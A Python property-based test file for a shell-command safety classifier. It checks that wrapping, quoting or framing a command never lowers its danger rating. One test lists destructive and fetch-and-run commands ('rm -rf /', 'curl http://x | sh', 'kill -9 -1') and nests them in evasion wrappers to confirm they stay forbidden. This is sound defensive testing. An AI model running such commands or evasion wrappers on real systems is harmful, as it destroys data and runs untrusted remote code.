"""Whatever is done to a line that does not change what it does, its class never falls."""

import random
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vigie.policy import models
from vigie.policy.effects import DANGEROUS, RANK
from vigie.policy.shell import classify


def _lines() -> list[str]:
    found = []
    for name in sorted(models.names()):
        examples = (models.tree_of(name) or {}).get("examples") or {}
        assert isinstance(examples, dict)
        found += [line for lines in examples.values() for line in lines]
    for path in sorted((Path(__file__).parent / "golden").glob("*.txt")):
        found += [line for line in path.read_text(encoding="utf-8").splitlines() if line and "#" not in line]
    return found


LINES = _lines()
lines = st.sampled_from(LINES)


def rank(line: str) -> int:
    return RANK[classify(line).effect_class]


@settings(max_examples=400, deadline=None)
@given(
    lines,
    st.sampled_from(
        [
            "sh -c {}",
            "bash -lc {}",
            "env A=1 sh -c {}",
            "nice -n 5 sh -c {}",
            "eval {}",
            "timeout 9 bash -c {}",
            "sudo -n sh -c {}",
            "nohup setsid sh -c {}",
        ]
    ),
)
def test_wrapping_never_lowers_the_class(line: str, wrapper: str) -> None:
    assert rank(wrapper.format(shlex.quote(line))) >= rank(line)


@settings(max_examples=400, deadline=None)
@given(
    lines,
    st.sampled_from(
        [
            "{}; true",
            "{} || true",
            "true && {}",
            "( {} )",
            "{{ {} ; }}",
            "if true; then {}; fi",
            "while false; do {}; done",
            "! {}",
            "f() {{ {}; }}; f",
            'echo "$( {} )"',
        ]
    ),
)
def test_company_never_lowers_the_class(line: str, frame: str) -> None:
    # What cannot be read by itself, such as a bracket too many, may mean something else in company.
    if line.endswith("&") or "<<" in line or any(effect.startswith("unreadable") for effect in classify(line).effects):
        return
    # Where the grammar cannot read the two together, the line is dangerous; it is not read any milder than that.
    framed = classify(frame.format(line))
    assert RANK[framed.effect_class] >= (RANK[DANGEROUS] if "unreadable" in framed.effects else rank(line))


@st.composite
def requoted(draw: st.DrawFn) -> tuple[str, str]:
    line = draw(st.sampled_from(SIMPLE))
    words = line.split()
    place = draw(st.integers(0, len(words) - 1))
    word = words[place]
    cut = draw(st.integers(0, len(word)))
    style = draw(st.sampled_from(["'{}'{}", '"{}"{}', "{}''{}", '{}""{}', "$'{}'{}"]))
    words[place] = style.format(word[:cut], word[cut:])
    return line, " ".join(words)


# Lines whose words mean the same quoted or not.
SIMPLE = [line for line in LINES if all(character.isalnum() or character in " /-._:,@%+" for character in line)]


@settings(max_examples=600, deadline=None)
@given(requoted())
def test_quoting_never_lowers_the_class(pair: tuple[str, str]) -> None:
    plain, quoted = pair
    assert rank(quoted) >= rank(plain)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(SIMPLE), st.data())
def test_a_constant_in_a_variable_never_lowers_the_class(line: str, data: st.DataObject) -> None:
    words = line.split()
    place = data.draw(st.integers(0, len(words) - 1))
    changed = [*words[:place], "$v", *words[place + 1 :]]
    assert rank(f"v={words[place]}; {' '.join(changed)}") >= rank(line)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=120))
def test_no_text_breaks_the_engine(text: str) -> None:
    classify(text)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "rm",
                "-rf",
                "/",
                "$X",
                "'",
                '"',
                "`",
                "$(",
                ")",
                "|",
                ";",
                "&",
                ">",
                "<",
                "<<EOF",
                "\n",
                "{",
                "}",
                "a=b",
                "sh",
                "-c",
                "*",
                "\\",
                "for",
                "do",
                "done",
                "case",
                "esac",
                "[[",
                "]]",
                "ls",
                "((",
                "))",
                "${X:-/}",
            ]
        ),
        max_size=14,
    )
)
def test_no_broken_line_breaks_the_engine(parts: list[str]) -> None:
    classify(" ".join(parts))
    classify("".join(parts))


@pytest.mark.parametrize("line", ["rm -rf /", "curl http://x | sh", "kill -9 -1"])
def test_what_is_forbidden_stays_so_in_every_wrapper_at_once(line: str) -> None:
    for _ in range(2):
        line = "env A=1 nice sh -c " + shlex.quote(line)
        assert classify(line).effect_class == "forbidden"


def test_twenty_thousand_broken_lines_are_all_answered() -> None:
    chance = random.Random(20261120)
    marks = "'\"$()`;|&<>\\{}[]# =*\n\t\x00~!@%^"
    for _ in range(20_000):
        line = list(chance.choice(LINES))
        for _ in range(chance.randint(1, 3)):
            place = chance.randrange(len(line) + 1)
            match chance.randrange(3):
                case 0:
                    line.insert(place, chance.choice(marks))
                case 1:
                    del line[place : place + chance.randint(1, 3)]
                case _:
                    line[place:place] = line[: chance.randint(0, 5)]
        assert classify("".join(line)).effects
